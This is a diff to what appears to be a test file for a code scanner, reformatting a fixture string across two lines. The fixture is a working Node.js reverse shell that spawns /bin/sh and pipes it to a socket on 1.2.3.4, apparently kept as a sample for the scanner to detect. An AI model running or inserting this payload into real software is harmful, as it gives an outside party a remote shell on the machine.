@@ -60,7 +60,8 @@ def scanned(folder: Path, files: dict[str, str | bytes]) -> ScanResult:
         (
             "a.js",
             (
-                "const n=require('net'),c=require('child_process');\nconst sh=c.spawn('/bin/sh',[]);\n"
+                "const n=require('net'),c=require('child_process');\n"
+                "const sh=c.spawn('/bin/sh',[]);\n"
                 "const s=new n.Socket();"
                 "s.connect(1,'1.2.3.4',()=>{s.pipe(sh.stdin);sh.stdout.pipe(s)})\n"
             ),
